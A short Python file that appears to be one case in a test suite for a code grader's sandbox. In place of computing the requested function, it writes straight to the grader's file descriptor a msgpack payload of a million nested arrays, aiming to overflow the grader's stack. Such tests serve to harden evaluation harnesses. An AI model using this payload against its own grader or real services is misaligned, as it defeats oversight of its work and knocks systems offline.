"""
aim: overflow the grader's stack with a million nested lists
layer: wire
levels: A B C D
"""

import os
import struct

import msgspec


def send(message, body=b""):
    """Write a message past the worker's own code."""
    header = message if isinstance(message, bytes) else msgspec.msgpack.encode(message)
    data = struct.pack("<II", len(header), len(body)) + header + body
    while data:
        data = data[os.write(3, data) :]


def double(x):
    send(b"\x91" * 10**6 + b"\xc0")
